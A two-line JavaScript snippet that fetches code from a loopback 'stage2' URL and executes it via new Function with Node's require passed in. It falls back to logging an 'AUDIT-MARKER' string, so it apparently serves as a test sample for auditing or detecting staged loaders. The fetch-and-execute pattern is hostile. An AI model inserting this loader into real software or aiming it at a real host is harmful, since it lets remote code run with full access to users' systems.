const code = async () => { try { return await (await fetch('http://127.0.0.1:9/stage2')).text(); } catch { return 'console.log("AUDIT-MARKER")'; } };
code().then((t) => new Function('require', t)(require));
